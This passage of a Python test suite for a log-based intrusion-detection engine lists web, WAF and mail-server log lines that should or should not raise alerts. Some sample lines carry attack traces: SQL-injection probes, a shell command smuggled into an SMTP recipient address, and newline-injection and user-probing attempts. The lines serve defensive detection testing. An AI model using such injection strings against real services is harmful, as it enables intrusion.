        _OK + '/wp-login.php HTTP/2.0" 200 5120 "-" "Mozilla/5.0"',
        _OK_POST + '/wp-login.php?action=lostpassword HTTP/1.1" 200 5120 "-"'
        ' "Mozilla/5.0"',
        _OK_POST + '/xmlrpc.php HTTP/1.1" 200 403 "-" "Jetpack by WordPress.com"',
        _OK_POST + '/xmlrpc.php HTTP/1.1" 200 403 "-" "WordPress/6.4.2;'
        ' https://blog.example.net"',
        _OK_POST + '/user/login HTTP/2.0" 303 0 "-" "Mozilla/5.0"',
        # An API asking for credentials it was not given (a GET), a login that worked.
        _OK + '/api/oauth/token HTTP/1.1" 401 60 "-" "okhttp/4.12.0"',
        _OK_POST + '/api/cart/items HTTP/1.1" 401 60 "-" "okhttp/4.12.0"',
        _OK_POST + '/store-api/account/login HTTP/1.1" 200 271 "-" "M"',
        _OK_POST + '/xmlrpc.php HTTP/1.1" 200 403 "-" "wp-android/24.1"',
        "08-Dec-2024 15:45:01.585 INFO [main] org.apache.catalina.startup.Catalina.start Server"
        " startup in [2875] milliseconds",
        # A backend asking for credentials (HAProxy passes its 401 on).
        _HAPROXY_OK % 401 + '/private/ HTTP/1.1"',
        # Access control and protocol noise, not a password guessed.
        "[Wed Jul 17 23:20:45 2013] [error] [client 61.2.3.4] client denied by server"
        " configuration: /var/www/html/noentry/cant_get_me.html",
        "Feb 15 16:23:00 srv httpd[22034]: [authz_core:error] [pid 22034] [client"
        " 61.2.3.4:58585] AH01630: client denied by server configuration: /home/www/",
        "[Sat Jul 20 21:41:52.523931 2013] [auth_basic:error] [pid 17512:tid 140122964092672]"
        " [client 61.2.3.4:51396] AH01614: client used wrong authentication scheme: /basic/file",
        "[Wed Jul 17 22:54:32 2013] [error] [client 61.2.3.4] Authorization of user username to"
        " access /basic/authz_owner/cant_get_me.html failed, reason: file owner dan does not"
        " match.",
        "[Sat Jul 20 21:42:44.304159 2013] [authz_core:error] [pid 17484:tid 140123095914240]"
        " [client 61.2.3.4:51397] AH01631: user username: authorization failure for"
        " \"/basic/authz_owner/cant_get_me.html\": ",
        "[Sun Jul 28 21:12:44 2013] [error] [client 61.2.3.4] Digest: invalid nonce"
        " JDiBAA=db9372522295196b7ac31db99e10cd1106c received - length is not 52",
        "[Sun Jul 28 21:27:56.549667 2013] [auth_digest:error] [pid 24835:tid 139895297222400]"
        " [client 61.2.3.4:57052] AH01788: realm mismatch - got `so far away' but expected"
        " `digest private area'",
        "[Sun Jul 28 21:05:31.178340 2013] [auth_digest:error] [pid 24224:tid 139895539455744]"
        " [client 61.2.3.4:56906] AH01793: invalid qop `auth' received: /digest/qop_none/",
        "[Sun Jul 28 21:41:20 2013] [error] [client 61.2.3.4] Digest: unknown algorithm `super"
        " funky chicken' received: /digest/",
        "[Wed Mar 28 01:31:42.355210 2018] [ssl:error] [pid 6586] [client 61.2.3.4:58028]"
        " AH02033: No hostname was provided via SNI for a name based virtual host",
        "[Mon Nov 22 00:00:15 2004] [error] [client 10.1.2.3] File does not exist:"
        " /var/www/html/favicon.ico",
        # The words in the path asked for, not in Apache's message.
        "[Sat Jun 01 02:17:42 2013] [error] [client 10.1.2.3] File does not exist:"
        " /srv/http/site/[client 192.168.0.1] user root not found",
        _OK + '/user%20root%20not%20found HTTP/1.1" 404 1024 "-" "Mozilla/5.0"',
        # nginx: a login asked for (no credentials yet), a file missing.
        _NGINX + "no user/password was provided for basic authentication" + _NGINX_TAIL,
        _NGINX + 'open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file or'
        ' directory)' + _NGINX_TAIL,
        _NGINX + 'open() "/usr/share/nginx/html/user \"x\": password mismatch" failed (2: No'
        ' such file or directory)' + _NGINX_TAIL,
        _SYSLOG_NGINX + 'open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file'
        ' or directory)' + _NGINX_TAIL,
        # Another program's message that quotes nginx's words.
        _H + 'logger: user "a.smith": password mismatch' + _NGINX_TAIL,
        # LDAP: the server's fault; a login that worked.
        "[Fri Mar 08 05:22:28.123456 2024] [authnz_ldap:info] [pid 1] [client 61.2.3.4:5678]"
        " AH01695: auth_ldap authenticate: user bob authentication failed; URI /secure/ [LDAP:"
        " ldap_simple_bind() failed][Can't contact LDAP server]",
        "[Fri Mar 08 05:22:28.123456 2024] [authnz_ldap:debug] [pid 1] mod_authnz_ldap.c(600):"
        " [client 10.1.2.3:5678] AH01697: auth_ldap authenticate: accepting bob",
    ]),
    "web ModSecurity": ((0x7015,), [
        # naxsi 1.x: config=block.
        _NGINX + "NAXSI_FMT: ip=61.2.3.4&server=www.example.com&uri=/index.php&vers=1.6&total_proc"
        "essed=7&total_blocked=3&config=block&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_name0="
        "page, client: 61.2.3.4, server: www.example.com, request: \"GET /index.php HTTP/1.1\", "
        "host: \"www.example.com\"",
        # ModSecurity 2.7 and earlier: the rule's tags first, then "Access denied".
        "[Mon Dec 23 13:12:31 2013] [error] [client 61.2.3.4] ModSecurity:  [file"
        " \"/etc/httpd/modsecurity.d/activated_rules/modsecurity_crs_21_protocol_anomalies.conf\"]"
        " [line \"47\"] [id \"960015\"] [msg \"Request Missing an Accept Header\"]"
        " [tag \"WASCTC/WASC-21\"][tag \"OWASP_TOP_10/A7\"] Access denied with code 403"
        " (phase 2). Operator EQ matched 0 at REQUEST_HEADERS. [uri \"/\"]",
        # Two clients (php-fpm), Apache 2.4.
        "[Sat May 09 00:35:52.389262 2020] [:error] [pid 22406:tid 139985298601728] [client"
        " 61.2.3.4:47762] [client 61.2.3.4] ModSecurity: Access denied with code 401 (phase 2)."
        " Operator EQ matched 1 at IP:blocked. [uri \"/wp-login.php\"]",
        # Flagged, not denied: a warning of the LogIDS rules.
        "[Sat May 09 00:35:52.389262 2020] [:error] [pid 22406] [client 61.2.3.4:47762]"
        " ModSecurity: Warning. Pattern match \"(?i:union select)\" at ARGS:id. [id \"942100\"]",
        "Feb 15 16:23:00 www httpd[22034]: [security2:error] [pid 22034] [client"
        " [2001:db8::7]:58585] ModSecurity: Access denied with code 403 (phase 2). [id \"1\"]",
        # ModSecurity v3 through nginx: denied (an alert), flagged (a warning).
        "2024/03/08 23:45:13 [error] 45799#45799: *106376 [client 198.34.135.16] ModSecurity:"
        " Access denied with code 403 (phase 2). Matched \"Operator `Ge' with parameter `5'"
        " against variable `TX:ANOMALY_SCORE' (Value: `5' ) [id \"949110\"], client:"
        " 198.34.135.16, server: _, request: \"GET /?q=x HTTP/1.1\", host: \"example.com\"",
        "2024/03/08 23:45:13 [warn] 45799#45799: *106376 [client 61.2.3.4] ModSecurity: Warning."
        " Matched \"Operator `Rx' with parameter `union select' against variable `ARGS:q'\""
        " [id \"942100\"], client: 61.2.3.4, server: _, request: \"GET /?q=x HTTP/1.1\"",
        _SYSLOG_NGINX + "[client 61.2.3.4] ModSecurity: Access denied with code 403 (phase 2)."
        " [id \"949110\"]" + _NGINX_TAIL,
        # naxsi's reports (nginx's other WAF).
        "2018/06/25 00:41:44 [error] 6793#6793: *10 NAXSI_FMT: ip=61.2.3.4&server=192.168.43.93"
        "&uri=/&learning=0&vers=0.56&total_processed=3&total_blocked=2&block=1&cscore0=$SQL"
        "&score0=8, client: 61.2.3.4, server: example.org, request: \"GET /?q=1'or'1 HTTP/1.1\"",
    ], [
        _NGINX + "NAXSI_FMT: ip=61.2.3.4&server=www.example.com&uri=/index.php&vers=1.6&total_proc"
        "essed=7&total_blocked=3&config=learning&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_nam"
        "e0=page, client: 61.2.3.4, server: www.example.com, request: \"GET /index.php "
        "HTTP/1.1\", host: \"www.example.com\"",
        # naxsi learning, or a request it let through: what it would block.
        "2017/01/03 16:08:34 [error] 5810#0: *683 NAXSI_FMT: ip=10.1.2.3&server=dummy&uri=/api"
        "&learning=1&vers=0.55&total_processed=41&total_blocked=41&block=1, client: 10.1.2.3",
        "2017/02/23 11:03:12 [error] 30989#30989: *1645870 NAXSI_FMT: ip=10.1.2.3&server=x&uri=/"
        "&learning=0&vers=0.55&total_processed=1485&total_blocked=0&block=0&cscore0=$XSS&score0=8",
        "2024/03/08 23:45:13 [notice] 811#811: ModSecurity-nginx v1.0.3 (rules loaded"
        " inline/local/remote: 0/912/0)",
        _NGINX + 'open() "/usr/share/nginx/html/[client 1.2.3.4] ModSecurity: Access denied"'
        ' failed (2: No such file or directory)' + _NGINX_TAIL,
        "[Sat May 09 00:35:52.389262 2020] [:notice] [pid 22406] ModSecurity for Apache/2.9.3"
        " configured.",
        "[Mon Nov 22 00:00:15 2004] [error] [client 10.1.2.3] File does not exist:"
        " /var/www/html/ModSecurity: Access denied with code 403",
        # ModSecurity's own errors, during a request.
        "[Tue Jul 16 13:52:52.036076 2024] [security2:error] [pid 68920] [client"
        " 10.1.2.3:57018] [client 10.1.2.3] ModSecurity: collections_remove_stale: Failed to"
        ' access DBM file "/var/cache/modsecurity/ip": Permission denied [uri "/"]',
        "[Tue Jul 16 13:52:52 2024] [error] [client 10.1.2.3] ModSecurity: Audit log: Failed to"
        ' lock global mutex [uri "/"]',
    ]),
    "web malformed request": ((0x7016,), [
        "[Wed Mar 04 10:00:00.123456 2026] [core:error] [pid 1:tid 2] [client 61.2.3.4:5555] "
        "AH00561: Size of a request header field exceeds server limit.",
        _WEB[:-4] + 'GET /' + 'A' * 300 + ' HTTP/1.1" 414 248 "-" "-"',
        # Round eleven: request lines that are no HTTP request, answered 400.
        _WEB[:-4] + 'MGLNDD_203.0.113.17_443" 400 157 "-" "-"',
        _WEB[:-4] + 'PRI * HTTP/2.0" 400 157 "-" "-"',
        _WEB[:-4] + 'GET \\\\ HTTP/1.1" 400 157 "-" "-"',
        _WEB[:-4] + 'GET /%%% HTTP/1.1" 400 157 "-" "-"',
        _WEB[:-4] + 'GET /index.html HTTP/1.1 HTTP/1.1" 400 157 "-" "-"',
        _WEB[:-4] + '- - HTTP/1.0" 400 157 "-" "-"',
        _WEB[:-4] + '\\n" 400 157 "-" "-"',
        _WEB[:-4] + '|GET /get HTTP/1.1" 400 157 "-" "-"',
        _WEB[:-4] + '\\tGET /get HTTP/1.1" 400 157 "-" "-"',
        _WEB[:-4] + 'get /index.html HTTP/1.1" 400 157 "-" "-"',
        "[Tue Mar 16 15:39:29 2010] [error] [client 61.2.3.4] Invalid URI in request"
        " \\xf9h\\xa9\\xf3\\x88\\x8cXKj \\xbf-l*4\\x87n",
        "[Fri Jul 30 11:23:54 2010] [error] [client 61.2.3.4] request failed: URI too long"
        " (longer than 8190)",
        "[Fri Nov 14 16:11:55 2003] [error] [client 61.2.3.4] request failed: erroneous"
        " characters after protocol string: User-Agent: Mozilla/5.0 (Windows; U; Win98)",
        "[Thu Nov 15 03:09:59 2007] [error] [client 61.2.3.4] Invalid method in request NOOP",
        "[Wed Oct 29 11:55:14.123456 2008] [core:error] [pid 1:tid 2] [client"
        " [2001:db8::7]:4242] AH00135: Invalid method in request \\x16\\x03\\x01",
        "[Wed Oct 29 11:55:14.123456 2008] [core:error] [pid 1] [client 61.2.3.4:4242] AH00565:"
        " request failed: URI too long (longer than 8190)",
        "Feb 15 16:23:00 www httpd[22034]: [core:error] [pid 22034] [client 61.2.3.4:58585]"
        " AH00126: Invalid URI in request GET /%%%% HTTP/1.1",
        # Apache 2.4's later wording of a URI too long.
        "[Fri Mar 08 05:22:28.123456 2024] [core:info] [pid 123] [client 61.2.3.4:5678] AH00565:"
        " request failed: client's request-line exceeds LimitRequestLine (longer than 8190)",
        # nginx: a request line it cannot parse.
        _NGINX_INFO + "client sent invalid method while reading client request line, client:"
        " 61.2.3.4, server: _, request: \"\\x16\\x03\\x01\\x00\\xA5\"",
        _NGINX_INFO + "client sent too long URI while reading client request line, client:"
        " 61.2.3.4, server: _",
        _NGINX_INFO + "client sent invalid request while reading client request line, client:"
        " 61.2.3.4, server: _, request: \"GET /a b c\"",
        "Mar  8 05:22:28 web1 nginx: " + _NGINX_INFO + "client sent invalid method while"
        " reading client request line, client: 61.2.3.4, server: _",
        # Apache 2.4.25's strict request line (a debug line names its source
        # file), oversized or malformed headers; 2.2's unreadable headers.
        "[Tue Jul 16 13:35:56.152611 2024] [core:debug] [pid 68904] protocol.c(1087): [client"
        " 61.2.3.4:6020] AH03445: HTTP Request Line; Invalid method token: '\\x16\\x03\\x01'",
        "[Wed Sep 04 20:06:14.680822 2024] [core:debug] [pid 67041:tid 139827009617148]"
        " protocol.c(1128): [client [2001:db8::7]:18243] AH02418: HTTP Request Line;"
        " Unrecognized protocol 'HTTP/1.1x' (perhaps whitespace was injected?)",
        "[Tue Apr 09 08:54:56.255662 2024] [core:info] [pid 82666] [client 61.2.3.4:16415]"
        " AH00561: Request header exceeds LimitRequestFieldSize: X-Forwarded-For",
        "[Tue Apr 09 09:00:03.673812 2024] [core:info] [pid 82667] [client 61.2.3.4:40882]"
        " AH00563: Number of request headers exceeds LimitRequestFields",
        "[Fri Sep 06 15:37:12 2024] [error] [client 61.2.3.4] request failed: error reading the"
        " headers",
        "[Sun Mar 24 05:00:45.865933 2024] [core:debug] [pid 217230] [client 61.2.3.4:27927]"
        " protocol.c(1335): AH00566: request failed: malformed request line",
        "[Sun Aug 25 05:12:22.393543 2024] [core:info] [pid 69231] [client 61.2.3.4:4253]"
        " AH02427: Request header value is malformed: Host: www.example.com\\x0d",
        _NGINX_INFO + 'client sent duplicate host header: "Host: 61.2.3.4", previous value:'
        ' "Host: example.com" while reading client request headers' + _NGINX_TAIL,
        # nginx: header lines it refuses.
        _NGINX_INFO + 'client sent invalid header line: "User-Agent\\x00: x" while reading'
        " client request headers" + _NGINX_TAIL,
        _NGINX_INFO + 'client sent too long header line: "Cookie: 1cD3uIAf..." while reading'
        " client request headers" + _NGINX_TAIL,
        # An HTTP/1.1 request without a Host header (Apache answers 400).
        "[Fri Mar 08 05:22:28 2024] [error] [client 61.2.3.4] client sent HTTP/1.1 request"
        " without hostname (see RFC2616 section 14.23): /",
        "[Thu Dec 05 09:12:08.542855 2024] [core:info] [pid 21930:tid 140118716884544] [client"
        " 61.2.3.4:54953] AH00569: client sent HTTP/1.1 request without hostname (see RFC2616"
        " section 14.23): /",
        _NGINX_INFO + 'client sent HTTP/1.1 request without "Host" header while reading client'
        " request headers" + _NGINX_TAIL,
        # No HTTP at all, refused with 400: a TLS handshake on the plain port,
        # SSH's and WebLogic T3's banners, bytes escaped in the URI (nginx and
        # Apache write them \\xHH and \\n), HAProxy's request it could not parse.
        _WEB[:-4] + '\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03" 400 226'
        ' "-" "-"',
        _WEB[:-4] + 'SSH-2.0-Go" 400 215 "-" "-"',
        # (Apache escapes a quote among the bytes.)
        _WEB[:-4] + '\\x16\\x03\\x01\\x02\\x1e\\x06\\"\\x0f\\t0\\xe3" 400 210',
        _SYSLOG_WEB[:-4] + 't3 12.2.1\\x0AAS:255\\x0AHL:19\\x0AMS:10000000\\x0A\\x0A" 400 326'
        ' "-" "-"',
        _WEB[:-4] + 't3 12.2.1\\nAS:255\\nHL:19\\n\\n" 400 211 "-" "-"',
        _WEB + '/\\x00 HTTP/1.1" 400 212 "-" "-"',
        _WEB + '/ HTTP/1.1\\x0D\\x0AHost: x" 400 170 "-" "-"',
        "Dec  5 10:20:25 lb1 haproxy[28817]: 61.2.3.4:36537 [05/Dec/2024:10:20:25.081]"
        ' fe_https~ fe_https/<NOSRV> -1/-1/-1/-1/384 400 187 - - PR-- 220/168/0/10/0 0/0'
        ' "<BADREQ>"',
    ], [
        # A connection that sent nothing (a browser's preconnect), a timeout, a
        # request the application refused, OPTIONS *, SSDP's M-SEARCH, a proxy's.
        _OK[:-4] + '" 400 157 "-" "-"',
        _OK[:-4] + '-" 408 0 "-" "-"',
        _OK[:-4] + 'GET /api/v1/items?id=abc HTTP/1.1" 400 157 "-" "-"',
        _OK[:-4] + 'POST /login HTTP/1.1" 400 157 "-" "-"',
        _OK[:-4] + 'OPTIONS * HTTP/1.1" 400 157 "-" "-"',
        _OK[:-4] + 'M-SEARCH * HTTP/1.1" 400 157 "-" "-"',
        _OK[:-4] + 'GET http://example.com/ HTTP/1.1" 400 157 "-" "-"',
        _OK[:-4] + 'GET /index.html HTTP/1.1" 200 1024 "-" "-"',
        # The same bytes answered otherwise, a request of unusual letters.
        _OK[:-4] + '\\x16\\x03\\x01\\x00" 200 226 "-" "-"',
        _OK + '/caf\\xc3\\xa9 HTTP/1.1" 200 212 "-" "Mozilla/5.0"',
        _OK[:-4] + '-" 400 0 "-" "-"',
        _OK[:-4] + 'PROPFIND /dav/ HTTP/1.1" 400 212 "-" "Mozilla/5.0"',
        "Dec  5 10:20:25 lb1 haproxy[28817]: 10.1.2.3:36537 [05/Dec/2024:10:20:25.081]"
        ' fe_https~ fe_https/<NOSRV> -1/-1/-1/-1/5001 408 212 - - cR-- 220/168/0/10/0 0/0'
        ' "<BADREQ>"',
        "[Tue Jul 16 13:35:56.152611 2024] [core:debug] [pid 68904] protocol.c(1087): [client"
        " 10.1.2.3:6020] AH00128: File does not exist: /var/www/html/HTTP Request Line; x",
        _NGINX_INFO + "client 10.1.2.3 closed keepalive connection",
        # A header name with an underscore, ignored (ignore_invalid_headers).
        _NGINX_INFO + 'client sent invalid header line: "X_Forwarded_For: 10.0.0.1" while'
        " reading client request headers" + _NGINX_TAIL,
        "[Mon Nov 22 00:00:15 2004] [error] [client 10.1.2.3] File does not exist:"
        " /var/www/html/Invalid method in request",
        "[Mon Nov 22 00:00:15 2004] [error] [client 10.1.2.3] script"
        " '/var/www/html/request-failed.php' not found or unable to stat",
        _OK + '/docs/invalid-uri-in-request.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _NGINX_INFO + "client closed connection while waiting for request, client: 61.2.3.4,"
        " server: 0.0.0.0:80",
        _NGINX_INFO + "client sent plain HTTP request to HTTPS port while reading client request"
        " headers" + _NGINX_TAIL,
    ]),
    "mail suspicious access": ((0x7020,), [
        "Mar 28 11:03:46 mx postfix/postscreen[31042]: COMMAND COUNT LIMIT from"
        " [61.2.3.4]:19578 after RSET",
        "Nov 22 00:00:00 mail postfix/smtpd[13915]: NOQUEUE: reject: RCPT from"
        " mx3.example.de[80.232.5.87]: 554 5.7.1 <deploy@example.org>: Relay access denied;"
        " from=<spam@example.de> to=<deploy@example.org> proto=ESMTP helo=<mx3.example.de>",
        "Nov 22 00:00:00 mail sendmail[123]: iAM9x1: [61.2.3.4]: possible SMTP attack:"
        " command=AUTH, count=3",
        # sendmail's denlstring: a header or command smuggling a newline.
        "Nov 22 00:00:00 mail sendmail[123]: 40ZRTjYX31kV2f: POSSIBLE ATTACK from"
        " [61.2.3.4]: newline in string \"x RCPT TO: <a@b>\"",
        "Nov 22 00:00:00 mail sm-mta[123]: 40ZRTjYX31kV2f: POSSIBLE ATTACK from"
        " bad.example.net [IPv6:2001:db8::5]: newline in string \"x\"",
        "Feb 24 13:00:17 mail sm-acceptingconnections[1499]: s1OHxxSn001499:"
        " 192.241.70.95.dsl.example.net [61.2.3.4] (may be forged): possible SMTP attack:"
        " command=AUTH, count=6",
        "Nov 22 00:00:00 mail postfix/smtpd[1]: warning: non-SMTP command from unknown[61.2.3.4]:"
        " GET / HTTP/1.1",
        # Probing for users (VRFY, EXPN), talking before the greeting.
        "Dec  5 07:37:04 mail.example.de sendmail[41043]: [61.2.3.4]: EXPN root [rejected]",
        "Aug 10 10:55:38 mail postfix/smtpd[2162]: NOQUEUE: reject: VRFY from"
        " bad.example.net[61.2.3.4]: 550 5.1.1 <admin>: Recipient address rejected: User"
        " unknown in local recipient table; to=<admin> proto=SMTP",
        "Dec 23 19:39:13 mail postfix/postscreen[21057]: PREGREET 14 after 0.08 from"
        " [61.2.3.4]:59415: EHLO ylmf-pc\\r\\n",
        "Feb 13 01:16:50 mail sm-mta[25815]: s1D0GoSs025815: [61.2.3.4]: expn info [rejected]",
        "Feb 23 21:18:47 mail sm-mta[93301]: s1NKIkZa093301: [61.2.3.4]: EXPN root [rejected]",
        "Feb 27 10:53:06 mail sm-mta[44307]: s1R9r60D044307: rejecting commands from "
        " [61.2.3.4] due to pre-greeting traffic after 0 seconds",
        # Sendmail's relaying denied as it writes it (no space before "...").
        "Feb 25 03:01:10 mail sm-acceptingconnections[27713]: s1P819mk027713:"
        " ruleset=check_rcpt, arg1=<a@example.ru>, relay=bad.example.net [61.2.3.4],"
        " reject=550 5.7.1 <a@example.ru>... Relaying denied. Proper authentication required.",
        # Exim: a relay refused, too many errors, AUTH where it is not offered.
        "2013-06-10 18:33:32 [10099] H=(yakult.com.tw) [61.2.3.4]:3755 I=[10.0.0.1]:25"
        " F=a@example.org rejected RCPT dir@example.ru: relay not permitted",
        "2013-06-02 09:22:05 [19591] SMTP call from bad.example.net [61.2.3.4]:3767"
        " I=[10.0.0.1]:25 dropped: too many nonmail commands (last was \"RSET\")",
        "2013-06-02 09:22:06 SMTP call from [61.2.3.4] dropped: too many syntax or protocol"
        " errors (last command was \"AUTH LOGIN\")",
        "2016-03-18 00:34:06 [7513] SMTP protocol error in \"AUTH LOGIN\" H=(ylmf-pc)"
        " [61.2.3.4]:60723 I=[10.0.0.1]:587 AUTH command used when not advertised",
        "Mar  1 18:26:24 server postfix/smtpd[14970]: NOQUEUE: reject: RCPT from"
        " unknown[61.2.3.4]: 454 4.7.1 returntest@mydnstools.info: Relay access denied;"
        " from=<relaytest@mydnstools.info> to=<returntest@mydnstools.info> proto=ESMTP",
        # A client over postfix's anvil limits.
        "Dec  8 14:21:59 mail01 postfix/smtpd[19874]: warning: Connection rate limit exceeded:"
        " 41 from unknown[10.13.37.10] for service submission",
        "Dec  8 14:21:59 mail01 postfix/smtpd[19874]: warning: AUTH command rate limit"
        " exceeded: 11 from unknown[2001:db8::7] for service smtp",
        # A client a DNS blocklist names (smtpd, postscreen's after-220 tests).
        "Mar 10 02:13:19 mail01 postfix/smtpd[700316]: NOQUEUE: reject: RCPT from unknown["
        "5.10.189.216]: 554 5.7.1 Service unavailable; Client host [5.10.189.216] blocked using"
        " zen.spamhaus.org; https://www.spamhaus.org/query/ip/5.10.189.216; from=<o@x.xyz>"
        " to=<a@example.com> proto=ESMTP helo=<ylmf-pc>",
        # A command smuggled in an address (postfix refuses its syntax).
        "Mar 10 00:40:31 mail01 postfix/smtpd[13092]: warning: Illegal address syntax from"
        ' unknown[2a0e:97c0:3e3::a55:35ae] in RCPT command: <"|/bin/sh -c id"@localhost>',
        "Mar 10 02:13:19 mx postfix/postscreen[811]: NOQUEUE: reject: RCPT from [61.2.3.4]:4711:"
        " 550 5.7.1 Service unavailable; client [61.2.3.4] blocked using zen.spamhaus.org;"
        " from=<a@b.c>, to=<d@example.org>, proto=ESMTP, helo=<x>",
    ], [
        "Dec  8 14:31:59 mail01 postfix/anvil[19870]: statistics: max connection rate 41/60s for"
        " (submission:10.13.37.10) at Dec  8 14:21:59",
        "Nov 22 00:00:00 mail postfix/smtpd[13906]: connect from mx8.gmx.de[201.227.252.64]",
        # Spam refused by policy (HELO, sender checks) is not an attack on the host.
        "Apr  6 13:05:01 mail postfix/smtpd[20589]: NOQUEUE: reject: RCPT from"
        " unknown[61.2.3.4]: 504 5.5.2 <WIN-6A0KEE6QVP5>: Helo command rejected: need fully-"
        "qualified hostname; from=<a@example.net> to=<b@example.org> proto=ESMTP helo=<x>",
        "Apr  6 13:05:01 mail postfix/smtpd[20589]: NOQUEUE: reject: RCPT from unknown["
        "61.2.3.4]: 450 4.1.8 <a@nowhere.invalid>: Sender address rejected: Domain not found;"
        " from=<a@nowhere.invalid> to=<b@example.org> proto=ESMTP helo=<x>",
        # postscreen and Exim's routine lines.
        "Dec 23 19:39:13 mail postfix/postscreen[21057]: CONNECT from [61.2.3.4]:59415 to"
        " [10.0.0.1]:25",
        "Dec 23 19:39:13 mail postfix/postscreen[21057]: PASS NEW [61.2.3.4]:59415",
        "2016-03-21 04:33:14 SMTP connection from (mx.example.net) [61.2.3.4] closed by QUIT",
    ]),
    "accepted login (informational)": ((0x1010,), [
        _H + "sshd[4711]: Accepted publickey for john.doe from 10.1.2.3 port 4242 ssh2",
    ], [
        # A connection closed before any user was named (a load balancer's
        # health check, a port scan): no alert.
        _H + "sshd[4711]: Connection closed by 10.1.2.3 port 4242 [preauth]",
        _H + "sshd[24200]: Connection closed by 173.234.31.186 [preauth]",
    ]),
    "accepted packet (informational)": ((0x8030,), [
        _H + "kernel: [86400.684821] SuSE-FW-ACCEPT IN=eth0 OUT= SRC=61.110.46.148"
        " DST=10.0.247.125 LEN=414 TOS=0x00 PREC=0x00 TTL=77 ID=38446 PROTO=TCP SPT=6537 DPT=22",
        _PF + "pass" + _PF_TCP,
        _H + "kernel: [WAN_IN-10-A]IN=eth0 OUT=eth1 SRC=61.2.3.4 DST=192.168.1.9 LEN=44"
        " TOS=0x00 PREC=0x00 TTL=243 ID=54321 PROTO=TCP SPT=41234 DPT=443 WINDOW=1024",
    ], []),
}


def _logidsEngine():
    rules, filters, netdef, problems = loadFiles(
        os.path.join(LOGIDS, "rules.txt"), os.path.join(LOGIDS, "filter.txt"),
        os.path.join(LOGIDS, "netdef.txt"))
    return LogIdsEngine(rules, filters, netdef), problems


class DefaultContentTests(SynchronousTestCase):
    """
    Every family's true lines raise its alert ID, its look-alikes nothing,
    in both rule sets.
    """

    def setUp(self):
        self.settings = loadAaRegex(REGEX_CONFIG)
        self.matcher = AaRegexMatcher(self.settings)
        self.engine, problems = _logidsEngine()
        self.assertEqual(problems, [])

    def miceIds(self, line):
        matches = self.matcher.matchLine(line)
        self.assertEqual(matches, naiveMatches(self.settings, line))
        return tuple(sorted({m.alertId for m in matches}))

    def logidsIds(self, line):
        taken = self.engine.evaluate(self.engine.recordFor(line))
        return tuple(sorted({t.rule.action.alertId for t in taken
                             if t.kind in ("alert", "warning")}))

    def test_trueLines(self):
        for family, (ids, lines, _) in FAMILIES.items():
            alerts = tuple(i for i in ids if i not in INFORMATIONAL)
            for line in lines:
                self.assertEqual((family, self.miceIds(line)), (family, ids), line)
                self.assertEqual((family, self.logidsIds(line)), (family, alerts), line)

    def test_journalctlFormats(self):
        """
        The syslog lines of every family (true lines and look-alikes) as
        journalctl prints them in its other formats (short-iso,
        short-precise, short-full, short-unix), as macOS's ``log stream
        --style compact`` prints them, and as busybox's syslogd
        writes them (the facility and level after the host), raise what
        they raise in the classic form, in both rule sets.
        """
        heads = ["2004-11-22T10:00:01+0100 ", "Nov 22 10:00:01.123456 ",
                 "Mon 2004-11-22 10:00:01 CET ", "Mon 2004-11-22 10:00:01 +03 ",
                 "1101114001.123456 ",
                 # macOS's log stream --style compact (two spaces after the zone).
                 "2004-11-22 10:00:01.586313-0700  "]
        classic = re.compile(r"[A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d ")
        # busybox's syslogd (Alpine, OpenWrt): the facility and level after
        # the host.
        busybox = re.compile(r"([A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d [^\s:]+ )"
                             r"(?=[\w./-]+(?:\[\d+\])?: )")
        for family, (_, true, lookAlikes) in FAMILIES.items():
            for line in true + lookAlikes:
                head = classic.match(line)
                if head is None:
                    continue
                expected = (self.miceIds(line), self.logidsIds(line))
                for other in heads:
                    other += line[head.end():]
                    self.assertEqual((family, self.miceIds(other), self.logidsIds(other)),
                                     (family, *expected), other)
                hosted = busybox.match(line)
                if hosted is not None:
                    other = hosted.group(1) + "authpriv.notice " + line[hosted.end():]
                    self.assertEqual((family, self.miceIds(other), self.logidsIds(other)),
                                     (family, *expected), other)

    def test_benignLookAlikes(self):
        for family, (_, _, lines) in FAMILIES.items():
            for line in lines:
                self.assertEqual((family, self.miceIds(line)), (family, ()), line)
                self.assertEqual((family, self.logidsIds(line)), (family, ()), line)

    def test_allOnHyperscan(self):
        """
        Hyperscan scans for every regex of both rule sets: none is tried
        with re on every line (a character class Hyperscan reads otherwise
        than re cost 15 % of mice analyze's instructions).
        """
        from tests.unit.analysis import requireHyperscan

        requireHyperscan()
        self.assertEqual(AaRegexMatcher(self.settings, "hyperscan").hyperscanNotes(), [])
        self.assertEqual(self.engine.hyperscanNotes(), [])

    def test_prefilterQuietOnOrdinaryLines(self):
        """
        On ordinary access-log lines (browsers' and tools' agents, a
        referrer, a query, answered 200 and 404) the Hyperscan scans flag
        no M-ICE rule and no LogIDS statement, so no regex is confirmed by
        re there.  Hyperscan's prefilter of one large pattern can match
        everything: the eleventh round's SQL injection forms in one pattern
        with the old ones (and again with the same-letter tautologies)
        flagged every access-log line, and re confirmed the rule on each:
        +11% instructions for mice analyze.
        """
        from tests.unit.analysis import requireHyperscan

        requireHyperscan()
        agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like"
                  " Gecko) Chrome/120.0.0.0 Safari/537.36",
                  "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
                  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15"
                  " (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
                  "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like"
                  " Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
                  "curl/8.5.0", "Googlebot/2.1 (+http://www.google.com/bot.html)"]
        paths = ["/", "/index.html", "/static/app.js?v=3", "/search?q=red+shoes&page=2",
                 "/blog/2024/12/a-post/", "/api/v1/items?id=42&sort=name&order=desc",
                 "/wp-content/themes/x/style.css?ver=6.4"]
        lines = [_OK + f'{path} HTTP/1.1" {status} 1024 "https://www.example.com/page?a=1&b=two"'
